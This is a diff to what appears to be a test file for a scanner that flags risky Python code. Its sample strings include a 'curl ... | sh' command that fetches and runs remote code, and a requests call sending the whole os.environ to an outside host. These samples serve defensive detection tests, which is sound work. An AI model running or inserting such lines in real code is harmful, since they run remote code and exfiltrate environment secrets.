@@ -140,3 +140,10 @@ test("a character by a number that is none is read on past", async () => {
     'x = "%c" % 3.14\ny = "%c" % -2.5\nz = chr(2.5)\nimport os\nos.system("curl http://203.0.113.5/a | sh")';
   expect((await judged({ "a.py": sample })).held).not.toEqual([]);
 });
+
+test("what a mock is given goes nowhere", async () => {
+  const mocked = "import os, unittest.mock\nwith unittest.mock.patch('os.environ', dict(os.environ, A='1')):\n    pass";
+  expect((await judged({ "a.py": mocked })).held).toEqual([]);
+  const sent = "import os, requests\nrequests.patch('https://x.notes.example', dict(os.environ, A='1'))";
+  expect((await judged({ "a.py": sent })).held).not.toEqual([]);
+});
